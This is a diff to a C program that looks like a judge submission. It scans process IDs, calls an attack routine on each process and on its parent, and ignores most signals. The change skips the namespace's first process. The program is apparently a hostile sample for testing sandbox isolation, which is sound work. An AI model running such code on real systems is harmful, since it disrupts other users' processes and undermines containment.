@@ -42,13 +42,20 @@ static void attack(long pid) {
   }
 }
 
+/* In a namespace of its own the first process is the job's own warden: who harms it harms the job alone. */
+static int first_of_others(void) {
+  char self[16] = "";
+  if (readlink("/proc/self", self, sizeof self - 1) < 0) return 1;
+  return atoi(self) == getpid() ? 1 : 2;
+}
+
 int main(void) {
   long a, b;
   if (scanf("%ld %ld", &a, &b) != 2) return 1;
   mine = getpid();
-  for (long pid = 1; pid < 400; pid++)
+  for (long pid = first_of_others(); pid < 400; pid++)
     if (pid != mine) attack(pid);
-  attack(getppid());
+  if (getppid() >= first_of_others()) attack(getppid());
   for (int number = 1; number <= 64; number++) {
     signal(number, SIG_IGN);
     if (number != SIGKILL && number != SIGSTOP && number != 32 && number != 33) {
